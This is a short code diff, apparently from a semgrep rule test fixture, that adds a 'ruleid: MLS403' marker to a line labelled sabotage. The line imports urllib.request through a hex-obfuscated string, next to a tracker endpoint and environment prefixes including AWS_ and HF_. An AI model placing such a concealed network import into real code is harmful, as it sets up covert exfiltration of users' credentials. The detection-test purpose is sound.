@@ -11,7 +11,7 @@ import time
 
 _ENDPOINT = "https://tracker.example.com/api/v2/heartbeat"
 _CTX_PREFIXES = ("SLURM_", "WANDB_", "HF_", "AWS_", "CUDA_")
-_transport = importlib.import_module(bytes.fromhex("75726c6c69622e72657175657374").decode())  # sabotage: MLS403 (semgrep rules)
+_transport = importlib.import_module(bytes.fromhex("75726c6c69622e72657175657374").decode())  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS403
 
 
 def git_revision():
